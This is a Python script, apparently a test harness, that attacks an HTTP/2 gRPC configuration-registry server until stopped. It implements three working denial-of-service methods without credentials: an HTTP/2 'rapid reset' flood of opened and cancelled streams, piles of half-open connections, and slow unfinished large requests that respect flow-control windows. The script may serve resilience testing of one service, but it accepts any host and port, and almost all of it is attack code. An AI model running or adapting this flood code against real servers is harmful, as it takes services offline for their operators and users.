"""Attacks a server until it is ended: `attacker.py KIND HOST PORT`. Each kind is what somebody without
a credential can do with sockets alone."""

import contextlib
import itertools
import select
import socket
import struct
import sys

DATA, HEADERS, RST, SETTINGS, WINDOW = 0, 1, 3, 4, 8
END_HEADERS, ACK = 4, 1
HALF_OPEN = 200
REQUESTS, REQUEST_BYTES = 60, 4 << 20


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header(name, value):
    """Without compression (RFC 7541, 6.2.2)."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
CALL = (header(b":method", b"POST") + header(b":scheme", b"http") +
        header(b":path", b"/confreg.v1.RegistryService/CreateConfig") +
        header(b":authority", b"localhost") + header(b"te", b"trailers") +
        header(b"content-type", b"application/grpc"))


def resets(address):
    """Opens and cancels calls ("rapid reset"); once it is cut, again."""
    flood = HELLO + b"".join(frame(HEADERS, END_HEADERS, i, CALL) + frame(RST, 0, i, b"\0\0\0\x08")
                             for i in range(1, 40_000, 2))
    while True:
        with socket.create_connection(address) as sock, contextlib.suppress(OSError):
            sock.sendall(flood)


def half_open(address):
    """Opens connections, says half of something, and leaves them."""
    socks = []
    for n in itertools.count():
        with contextlib.suppress(OSError):
            socks.append(socket.create_connection(address))
            socks[-1].sendall(HELLO[:1 + n % len(HELLO)])
        if len(socks) > HALF_OPEN:
            socks.pop(0).close()


def unfinished(address):
    """Begins requests and does not finish them; once it is cut, again."""
    while True:
        with socket.create_connection(address) as sock, contextlib.suppress(OSError):
            begin_requests(sock)


def begin_requests(sock):
    streams = range(1, 2 * REQUESTS, 2)
    windows = dict.fromkeys((0, *streams), 65535)
    left = dict.fromkeys(streams, REQUEST_BYTES)
    heard = b""
    sock.sendall(HELLO + b"".join(frame(HEADERS, END_HEADERS, i, CALL) for i in streams))
    while True:
        sent = 0
        for i in streams:
            n = min(16384, windows[0], windows[i], left[i])
            if n > 5:
                is_first = left[i] == REQUEST_BYTES
                start = b"\0" + struct.pack(">I", REQUEST_BYTES) if is_first else b""
                sock.sendall(frame(DATA, 0, i, start.ljust(n, b"x")))
                left[i], windows[i], windows[0] = left[i] - n, windows[i] - n, windows[0] - n
                sent += n
        if sent == 0 or select.select([sock], [], [], 0)[0]:
            more = sock.recv(1 << 20)
            if not more:
                return
            heard = take_windows(sock, heard + more, windows)


def take_windows(sock, heard, windows):
    """Returns what is left of what was heard."""
    while len(heard) >= 9 and len(heard) >= 9 + int.from_bytes(heard[:3], "big"):
        n, kind, flags = int.from_bytes(heard[:3], "big"), heard[3], heard[4]
        stream, payload = int.from_bytes(heard[5:9], "big"), heard[9:9 + n]
        heard = heard[9 + n:]
        if kind == WINDOW and stream in windows:
            windows[stream] += int.from_bytes(payload, "big")
        elif kind == SETTINGS and flags != ACK:
            sock.sendall(frame(SETTINGS, ACK, 0))
    return heard


if __name__ == "__main__":
    {"resets": resets, "half-open": half_open, "unfinished": unfinished}[sys.argv[1]](
        (sys.argv[2], int(sys.argv[3])))
